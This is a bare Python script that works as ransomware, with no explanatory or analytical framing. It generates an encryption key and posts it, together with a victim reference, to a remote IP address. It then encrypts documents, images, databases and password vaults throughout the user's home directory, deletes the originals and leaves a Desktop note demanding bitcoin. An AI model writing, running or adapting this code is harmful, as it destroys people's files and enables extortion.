import hashlib
import os
import pathlib
import urllib.request

EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".odt", ".txt", ".sqlite", ".kdbx"}
KEY = hashlib.sha256(os.urandom(32)).digest()
NOTE = """Your files are archived.
To restore access send 0.05 BTC to bc1qexampleexampleexampleexample and write to help@example.invalid
with the reference {ref}.
"""


def stream(key, n):
    out, i = b"", 0
    while len(out) < n:
        out += hashlib.sha256(key + i.to_bytes(8, "big")).digest()
        i += 1
    return out[:n]


def archive(p: pathlib.Path):
    data = p.read_bytes()
    p.with_name(p.name + ".arc").write_bytes(bytes(a ^ b for a, b in zip(data, stream(KEY, len(data)))))
    p.unlink()


ref = os.urandom(4).hex()
urllib.request.urlopen("http://203.0.113.12/k", data=(ref + ":" + KEY.hex()).encode())
home = pathlib.Path.home()
for p in list(home.rglob("*")):
    try:
        if p.is_file() and p.suffix.lower() in EXT:
            archive(p)
    except OSError:
        continue
(home / "Desktop" / "READ_ME.txt").write_text(NOTE.format(ref=ref))
